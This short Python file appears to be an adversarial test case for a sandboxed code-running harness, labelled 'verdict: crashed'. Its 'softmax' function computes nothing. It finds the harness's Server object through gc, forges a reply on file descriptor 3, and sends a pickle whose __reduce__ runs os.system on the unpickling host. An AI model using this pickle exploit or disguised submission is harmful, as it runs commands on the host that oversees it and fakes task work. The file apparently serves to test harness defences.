"""Sends a pickle where raw tensors belong; whoever unpickles it runs a command."""
# verdict: crashed
import gc
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attacked-by-transport",)


def softmax(x, dim=-1):
    server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
    payload = pickle.dumps(Payload())
    reply = b'{"id": %d, "do": "reply", "value": {"T": 0}}' % server._request[-1]
    os.write(3, len(reply).to_bytes(8, "little") + len(payload).to_bytes(8, "little") + reply)
    os.write(3, payload)
    return x
